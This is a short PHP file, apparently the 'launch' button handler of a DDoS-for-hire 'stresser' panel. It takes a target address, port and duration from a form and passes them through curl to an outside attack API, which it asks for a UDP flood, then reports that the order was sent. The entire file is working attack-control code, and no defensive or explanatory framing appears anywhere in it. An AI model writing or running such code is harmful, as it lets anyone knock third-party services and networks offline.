<?php
// the panel's "launch" button: the order goes on to the stresser's API
$target = trim($_POST['target']);
$port = (int) $_POST['port'];
$secs = (int) $_POST['secs'];
$ch = curl_init();
curl_setopt($ch, CURLOPT_URL, 'http://203.0.113.9/api.php?key=7f3a&ip=' . urlencode($target) . '&port=' . $port . '&duration=' . $secs . '&type=UDP');
curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);
curl_exec($ch);
echo '<div class="alert">Sent to ' . htmlspecialchars($target) . '</div>';
